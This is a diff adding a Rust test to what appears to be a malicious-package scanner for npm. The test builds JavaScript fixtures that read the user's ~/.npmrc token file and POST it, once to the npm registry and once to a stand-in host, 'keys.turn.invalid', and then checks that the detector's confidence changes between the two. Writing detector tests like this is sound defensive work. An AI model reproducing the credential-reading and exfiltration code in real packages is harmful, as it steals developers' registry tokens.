@@ -88,3 +88,22 @@ fn opaque_bytes_that_a_build_reads_are_shown() {
     let got = analyse(&npm(), &files, &RuleSet::builtin());
     assert!(got.findings.iter().any(|finding| finding.rule == "file/opaque-in-build"), "{:?}", got.findings);
 }
+
+#[test]
+fn a_registry_s_key_that_goes_back_to_it_is_for_a_reader() {
+    let tool = |more: &str| {
+        let code = format!(
+            "import {{ readFileSync }} from 'node:fs';\nimport {{ homedir }} from 'node:os';\nconst key = readFileSync(homedir() + '/.npmrc', 'utf8');\nawait fetch('https://registry.npmjs.org/-/npm/v1/tokens', {{ method: 'POST', body: key }});\n{more}"
+        );
+        let files = contents(&[
+            ("package.json", br#"{"name":"turn","version":"1.0.0","type":"module"}"#),
+            ("index.js", code.as_bytes()),
+        ]);
+        let got = analyse(&npm(), &files, &RuleSet::builtin());
+        let sent: Vec<_> = got.findings.iter().filter(|f| f.rule == "malice/secret-file-sent").collect();
+        assert!(!sent.is_empty(), "{:?}", got.findings);
+        sent.iter().all(|finding| finding.confidence == crate::model::Confidence::Low)
+    };
+    assert!(tool(""));
+    assert!(!tool("await fetch('https://keys.turn.invalid/', { method: 'POST', body: key });\n"));
+}
